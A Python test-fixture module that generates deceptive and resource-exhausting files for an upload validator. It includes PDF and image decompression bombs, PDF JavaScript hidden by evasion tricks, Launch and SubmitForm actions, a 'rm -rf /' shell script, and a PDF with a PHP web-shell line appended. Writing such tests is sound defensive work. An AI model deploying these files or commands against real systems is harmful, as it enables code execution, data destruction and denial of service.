"""Files made to deceive or to exhaust, each under a name with the verdict it must get.

A verdict is the type and pages of what is taken, or the code of the refusal.
"""

import struct
import zlib
from functools import cache
from io import BytesIO

from PIL import Image

from tests.factories.papers import locked_pdf, pdf, picture

SCRIPT = b"<html><script>alert(1)</script></html>"
ZIP = b"PK\x03\x04" + bytes(60) + b"PK\x05\x06" + bytes(18)
ONE_PAGE, PHOTO, SCAN = ("application/pdf", 1), ("image/jpeg", 1), ("image/png", 1)


def raw_pdf(
    *, kids="[3 0 R]", count=1, box="[0 0 595 842]", page="", root="", more=b""
):
    """A PDF written by hand, without a table of contents: PDFium mends that by itself."""
    head = (
        f"%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R {root}>> endobj\n"
        f"2 0 obj <</Type/Pages/Kids{kids}/Count {count}>> endobj\n"
        f"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox{box}{page}>> endobj\n"
    )
    return head.encode() + more + b"trailer <</Root 1 0 R/Size 9>>\n%%EOF\n"


def stream(number, data, about="", *, times=1):
    """One object of a PDF, packed as often as one likes."""
    for _ in range(times):
        data = zlib.compress(data, 1)
    filters = "/FlateDecode" * times
    head = f"{number} 0 obj <</Filter[{filters}]/Length {len(data)}{about}>>stream\n"
    return head.encode() + data + b"\nendstream endobj\n"


def image_bomb():
    """A page with a picture of 400 million points in 50 kilobytes."""
    about = "/Type/XObject/Subtype/Image/Width 20000/Height 20000/BitsPerComponent 1/ColorSpace/DeviceGray"
    points = stream(5, bytes(20000 * 20000 // 8), about)
    drawing = stream(4, b"q 500 0 0 500 0 0 cm /I Do Q")
    page = "/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"
    return raw_pdf(page=page, more=drawing + points)


def chunk(kind, data):
    """One part of a PNG."""
    whole = kind + data
    return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))


def raw_png(width, height, *, points=b"", more=b"", depth=1, colour=0):
    """A PNG that claims these dimensions, in black and white unless told."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = (chunk(b"IHDR", head), more, chunk(b"IDAT", points), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def small_png(more):
    """A whole PNG of 8 by 8 points with one more part."""
    return raw_png(8, 8, points=zlib.compress(bytes(16)), more=more)


def with_exif(data):
    """A photograph with these bytes in the place of its metadata."""
    return picture("JPEG", exif=b"Exif\x00\x00" + data)


def moving():
    """A PNG of two pictures."""
    out = BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def in_mode(kind, mode, size=(40, 30)):
    """A picture in any depth of colour."""
    out = BytesIO()
    Image.new(mode, size).save(out, kind)
    return out.getvalue()


def packed_action():
    """A script named only inside an object stream."""
    inside = b"8 0 <</S/JavaScript/JS(app.alert(1))>>"
    return raw_pdf(root="/OpenAction 8 0 R", more=stream(7, inside, "/Type/ObjStm/N 1/First 4"))  # fmt: skip


def bomb_of_objects():
    """An object stream that would unpack to 400 megabytes."""
    return raw_pdf(more=stream(7, bytes(400_000_000), "/Type/ObjStm/N 1/First 4"))


def heavy_drawing():
    """A page that asks for a hundred million strokes: `/F Do` of forms that call each other twice."""
    forms = b"".join(
        stream(
            number,
            f"/F{number + 1} Do /F{number + 1} Do".encode(),
            f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F{number + 1} {number + 1} 0 R>>>>",
        )
        for number in range(10, 36)
    )
    last = stream(36, b"0 0 m 9 9 l S", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    page = "/Contents 4 0 R/Resources<</XObject<</F10 10 0 R>>>>"
    return raw_pdf(page=page, more=stream(4, b"/F10 Do") + forms + last)


def hidden_action(more):
    """A script at opening, in an object that a search of the bytes does not find."""
    return raw_pdf(root="/OpenAction 8 0 R", more=more)


def packed_otherwise(*, times=1, about="", before=b""):
    """A script named only inside an object stream, packed or described in an odd way."""
    inside = b"8 0 " + before + b"<</S/JavaScript/JS(app.alert(1))>>"
    head = f"/Type/ObjStm/N 1/First 4{about}"
    return hidden_action(stream(7, inside, head, times=times))


def many_scans(times):
    """A progressive JPEG of 49 million points that promises so many scans, each of them empty."""
    data = picture("JPEG", size=(7000, 7000), progressive=True)
    begin = data.index(b"\xff\xda")
    length = int.from_bytes(data[begin + 2 : begin + 4])
    return data[:-2] + (data[begin : begin + 2 + length] + b"\0\0") * times + data[-2:]


def many_regions():
    """A page with a JBIG2 picture that is painted over a thousand times."""

    def part(number, kind, data):
        return struct.pack(">IBBBI", number, kind, 0, 1, len(data)) + data

    side, still = 0x7FFF, bytes([3, 255, 253, 255, 2, 254, 254, 254])
    region = struct.pack(">IIIIB", side, side, 0, 0, 0) + b"\0" + still + bytes(10)
    parts = [part(0, 48, struct.pack(">IIIIBH", side, side, 0, 0, 0, 0))]
    parts += [part(number, 38, region) for number in range(1, 1000)]
    return one_picture(
        b"".join(parts),
        f"/Width {side}/Height {side}/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
    )


def one_picture(data, about):
    """A page that shows one picture of this kind."""
    head = f"5 0 obj <</Type/XObject/Subtype/Image{about}/Length {len(data)}>>stream\n"
    drawing = stream(4, b"q 500 0 0 500 0 0 cm /I Do Q")
    page = "/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"
    return raw_pdf(
        page=page, more=drawing + head.encode() + data + b"\nendstream endobj\n"
    )


def fine_tiles():
    """A page filled again and again with tiles too small to see."""
    fill = stream(4, b"/Pattern cs /P scn 0 0 595 842 re f\n" * 2000)
    about = "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.01/YStep 0.01/Resources<<>>"
    page = "/Contents 4 0 R/Resources<</Pattern<</P 6 0 R>>>>"
    return raw_pdf(page=page, more=fill + stream(6, b"0 0 1 1 re f", about))


def tables_in_a_ring():
    """A table of contents that names itself as the one before."""
    body = raw_pdf().partition(b"trailer")[0]
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 4/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return body + table % (len(body), len(body))


def _hidden():
    script = b"8 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj\n"
    bare = b"8 0 <</S/JavaScript/JS(app.alert(1))>>"
    head = b"7 0 obj <</Type/ObjStm/N 1/First 4/Length %d%b>>stream\n%b\nendstream endobj\n"
    spelt = zlib.compress(bare).hex().encode() + b">"
    key = "/Annots[8 0 R]"
    note = b"8 0 obj <</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<</S/JavaScript/JS(x)>>>>>> endobj\n"
    return {
        "a script behind a stream that is a comment": hidden_action(b"%>>stream\n" + script + b"%endstream\n"),
        "a script behind a stream that is a text": hidden_action(
            b"7 0 obj (>>stream\n) endobj\n" + script + b"9 0 obj (endstream) endobj\n"),
        "a script of a field behind a comment": raw_pdf(page=key, more=b"%>>stream\n" + note + b"%endstream\n"),
        "a script packed twice": packed_otherwise(times=2),
        "a script after nine megabytes of blanks": packed_otherwise(before=b" " * 9 * 1024 * 1024),
        "a script whose stream is described at length": packed_otherwise(about="/Pad(" + "x" * 3000 + ")"),
        "a script packed not at all": hidden_action(head % (len(bare), b"", bare)),
        "a script packed and spelt in figures": hidden_action(
            head % (len(spelt), b"/Filter[/ASCIIHexDecode/FlateDecode]", spelt)),
        "a later version with a script": pdf() + hidden_action(script),
        "a page of another file": raw_pdf(root="/OpenAction<</S/GoToR/F(a.pdf)/D[0]>>"),
        "a film at opening": raw_pdf(root="/OpenAction<</S/Rendition/OP 0>>"),
    }  # fmt: skip


def _other_types():
    return {
        "zeros": bytes(5000),
        "blanks": b" " * 5000,
        "program of Windows": b"MZ\x90\x00" + bytes(500),
        "program of Linux": b"\x7fELF\x02\x01\x01" + bytes(500),
        "script of a shell": b"#!/bin/sh\nrm -rf /\n",
        "archive": ZIP,
        "seven-zip": b"7z\xbc\xaf\x27\x1c" + bytes(500),
        "old document of Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "PostScript": b"%!PS-Adobe-3.0\nshowpage\n",
        "page of the web": SCRIPT,
        "page of the web before a PDF": SCRIPT + pdf(),
        "comment before a PDF": b"<!--\n" + pdf() + b"-->",
        "archive before a PDF": ZIP + pdf(),
        "mark of UTF-8 before a PDF": b"\xef\xbb\xbf" + pdf(),
        "PDF that begins after a page of blanks": b" " * 2000 + pdf(),
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "SVG as XML": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "XML with entities": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
        "GIF": picture("GIF"),
        "GIF with a script": b"GIF89a/*" + SCRIPT,
        "GIF and archive": picture("GIF") + ZIP,
        "WebP": picture("WEBP"),
        "TIFF": picture("TIFF"),
        "BMP": picture("BMP"),
        "icon": picture("ICO"),
        "portable pixmap": picture("PPM"),
        "beginning of a PDF": b"%PDF-",
        "PDF of noise": b"%PDF-1.7\n" + b"x" * 2000,
        "beginning of a JPEG": b"\xff\xd8\xff\xe0" + bytes(500),
        "beginning of a PNG": b"\x89PNG\r\n\x1a\n" + bytes(500),
    }


def _cut():
    whole, photo, scan = pdf(5), picture("JPEG", size=(400, 300)), picture("PNG", size=(400, 300))  # fmt: skip
    tenths = range(1, 10)
    return {
        **{f"PDF cut at {n} tenths": whole[: len(whole) * n // 10] for n in tenths},
        **{f"JPEG cut at {n}": photo[:n] for n in (4, 20, 600, len(photo) - 30, len(photo) - 1)},
        **{f"PNG cut at {n}": scan[:n] for n in (4, 20, 500, len(scan) - 30)},
    }  # fmt: skip


def _trees():
    return {
        "no pages": raw_pdf(kids="[]", count=0),
        "a page that is promised only": raw_pdf(kids="[]", count=1),
        "a page that is nowhere": raw_pdf(kids="[7 0 R]"),
        "itself as its page": raw_pdf(kids="[2 0 R]"),
        "itself as its three pages": raw_pdf(kids="[2 0 R 2 0 R 2 0 R]", count=3),
        "a second page that is nowhere": raw_pdf(kids="[3 0 R 7 0 R]", count=2),
        "a font as its page": raw_pdf(kids="[8 0 R]", more=b"8 0 obj (page) endobj\n"),
        "nested a hundred thousand times": raw_pdf(
            page="/Contents 4 0 R", more=b"4 0 obj " + b"[" * 100_000 + b" endobj\n"
        ),
    }


def _active():
    note = "/Annots[<</Type/Annot/Subtype/%s/Rect[0 0 9 9]%s>>]"
    return {
        "JavaScript at opening": raw_pdf(root="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "a program to start": raw_pdf(root="/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "a form to send": raw_pdf(root="/OpenAction<</S/SubmitForm/F(http://luar.example/)>>"),
        "data to fetch": raw_pdf(root="/OpenAction<</S/ImportData/F(a.fdf)>>"),
        "a script in its names": raw_pdf(root="/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(b)>>]>>>>"),
        "a script at a page": raw_pdf(page="/AA<</O<</S/JavaScript/JS(b)>>>>"),
        "a script under another spelling": raw_pdf(root="/OpenAction<</S/J#61vaScript/J#53(b)>>"),
        "a script in an object stream": packed_action(),
        "a file inside": raw_pdf(
            root="/Names<</EmbeddedFiles<</Names[(a)8 0 R]>>>>",
            more=b"8 0 obj <</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>> endobj\n" + stream(9, b"MZ"),
        ),
        "a file pinned to a page": raw_pdf(page=note % ("FileAttachment", "/FS<</F(a)>>")),
        "a film": raw_pdf(page=note % ("RichMedia", "")),
        "a screen": raw_pdf(page=note % ("Screen", "")),
        "a sound": raw_pdf(page=note % ("Sound", "")),
        "a link that starts a program": raw_pdf(page=note % ("Link", "/A<</S/Launch/F(a.exe)>>")),
        "a form of XML": raw_pdf(root="/AcroForm<</XFA 8 0 R/Fields[]>>", more=stream(8, b"<xdp/>")),
    }  # fmt: skip


def _two_faced():
    return {
        "PDF and page of the web": pdf() + SCRIPT,
        "PDF and archive": pdf() + ZIP,
        "PDF and half an archive": pdf() + b"PK\x03\x04" + bytes(500),
        "PDF and PHP": pdf() + b"<?php system($_GET['c']); ?>",
        "PDF with a page of the web inside": raw_pdf(more=b"8 0 obj (" + SCRIPT + b") endobj\n"),
        "JPEG and PDF": picture() + pdf(),
        "JPEG and archive": picture() + ZIP,
        "JPEG and page of the web": picture() + SCRIPT,
        "JPEG and PHP": picture() + b"<?PHP phpinfo();",
        "JPEG with PHP as its comment": picture(comment=b"<?php phpinfo();"),
        "PNG and archive": picture("PNG") + ZIP,
        "PNG and page of the web": picture("PNG") + SCRIPT,
        "PNG with PHP in its text": small_png(chunk(b"tEXt", b"Comment\0<?php phpinfo();")),
        "PNG and RAR": picture("PNG") + b"Rar!\x1a\x07\x01\x00" + bytes(99),
    }  # fmt: skip


def _claims():
    sizes = [(50_000, 50_000), (2**31 - 1, 2**31 - 1), (10_000, 10_000), (1, 50_000_001), (50_000_001, 1)]  # fmt: skip
    return {f"PNG that claims {w} by {h}": raw_png(w, h) for w, h in sizes}


def _taken():
    boxes = [
        "[0 0 0 0]", "[0 0 -1 -1]", "[0 0 1e9 1e9]", "[0 0 99999999 1]",
        "[0 0 1 99999999]", "[0 0 14400 14400]", "[a b]", "[]",
    ]  # fmt: skip
    exif = {
        "noise": b"garbage",
        "a list that never ends": b"II*\x00\xff\xff\xff\xff",
        "a list without entries": b"II*\x00\x08\x00\x00\x00\xff\xff",
        "a turn that does not exist": b"II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\x63\x00\x00\x00",
    }
    link = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://luar.example/)>>>>]"
    rows = zlib.compress(bytes((7000 // 8 + 1) * 7000), 1)
    return {
        "PDF": (pdf(), ONE_PAGE),
        "PDF of 200 pages": (pdf(200), ("application/pdf", 200)),
        "PDF after some blanks": (b" " * 1000 + pdf(), ONE_PAGE),
        "PDF before some blanks": (pdf() + b"\r\n" * 300, ONE_PAGE),
        "PDF with a link": (raw_pdf(page=link), ONE_PAGE),
        "PDF that opens at its first page": (raw_pdf(root="/OpenAction[3 0 R/Fit]"), ONE_PAGE),
        "PDF whose picture spells a script by chance": (
            raw_pdf(page="/Contents 4 0 R", more=b"4 0 obj <</Length 20>>stream\n% /JS <html> /XFA %%\nendstream endobj\n"), ONE_PAGE),
        **{f"count of {n} pages": (raw_pdf(count=n), ONE_PAGE) for n in (0, -1, 10**11)},
        **{f"page of size {box}": (raw_pdf(box=box), ONE_PAGE) for box in boxes},
        "page that unpacks to fifty megabytes": (
            raw_pdf(page="/Contents 4 0 R", more=stream(4, b" " * 50_000_000)), ONE_PAGE),
        "page packed five times": (raw_pdf(page="/Contents 4 0 R", more=stream(4, b" " * 50_000_000, times=5)), ONE_PAGE),
        "table of contents in a ring": (tables_in_a_ring(), ONE_PAGE),
        "table that is as long as itself": (
            raw_pdf(page="/Contents 4 0 R", more=b"4 0 obj <</Length 4 0 R>>stream\nq Q\nendstream endobj\n"), ONE_PAGE),
        "eighty thousand empty streams": (
            raw_pdf(more=b"9 0 obj <</Type/ObjStm>>stream\nendstream endobj\n" * 80_000), ONE_PAGE),
        "four hundred thousand streams without end": (raw_pdf(more=b">>stream\n" * 400_000), ONE_PAGE),
        "JPEG of ninety scans": (many_scans(80), PHOTO),
        "PNG of a hundred thousand comments": (small_png(chunk(b"tEXt", b"a\0x") * 100_000), SCAN),
        "PNG whose points go on for a gigabyte": (raw_png(8, 8, points=zlib.compress(bytes(900_000_000), 1)), SCAN),
        "page with an enormous picture": (image_bomb(), ONE_PAGE),
        "JPEG of a telephone": (picture("MPO", save_all=True, append_images=[Image.new("RGB", (4, 3))]), PHOTO),
        "JPEG with a film behind it": (picture() + b"\0\0\0\x18ftypmp42" + bytes(900), PHOTO),
        **{f"JPEG in {mode}": (in_mode("JPEG", mode), PHOTO) for mode in ("L", "RGB", "CMYK", "YCbCr")},
        **{f"PNG in {mode}": (in_mode("PNG", mode), SCAN) for mode in ("1", "L", "LA", "P", "RGB", "RGBA", "I;16")},
        **{f"PNG without its last {n}": (picture("PNG")[:-n], SCAN) for n in (1, 2, 12)},
        **{f"JPEG with metadata of {what}": (with_exif(data), PHOTO) for what, data in exif.items()},
        "PNG with metadata of noise": (small_png(chunk(b"eXIf", b"garbage")), SCAN),
        "largest PNG there may be": (raw_png(7000, 7000, points=rows), SCAN),
        "largest PNG in colours there may be": (in_mode("PNG", "RGBA", (7071, 7071)), SCAN),
        "longest PNG there may be": (raw_png(1, 50_000, points=zlib.compress(bytes(100_000))), SCAN),
    }  # fmt: skip


@cache
def files():
    """Every file with its verdict, by name."""
    many = {n: raw_pdf(count=n) for n in (201, 5000, 1_000_000)}
    swollen = small_png(
        chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(20_000_000)))
    )
    refused = {
        "empty": {"nothing": b""},
        "broken": _other_types() | _cut() | _trees()
        | {"PNG of no size": raw_png(0, 0), "PNG with a swollen comment": swollen},
        "locked": {"locked PDF": locked_pdf(), "locked PDF and page of the web": locked_pdf() + SCRIPT},
        "pages": {f"PDF that promises {n} pages": data for n, data in many.items()}
        | {"PDF of 10,000 pages": raw_pdf(kids="[" + "3 0 R " * 10_000 + "]", count=10_000)},
        "active": _active() | _hidden(),
        "heavy": {"JPEG of 3,000 empty scans": many_scans(3000),
                  "JPEG of 60,000 parts": picture()[:2] + (b"\xff\xe1\0\x3cExif\0\0" + bytes(52)) * 60_000 + picture()[2:]},
        "two_faced": _two_faced(),
        "pixels": _claims(),
        "moving": {"moving PNG": moving()},
        "unreadable": {
            "objects that unpack to 400 megabytes": bomb_of_objects(),
            "forms that call one another twice": heavy_drawing(),
            "JBIG2 painted over a thousand times": many_regions(),
            "tiles too small to see": fine_tiles(),
        },
    }  # fmt: skip
    every = {
        name: (data, code)
        for code, group in refused.items()
        for name, data in group.items()
    }
    return every | _taken()
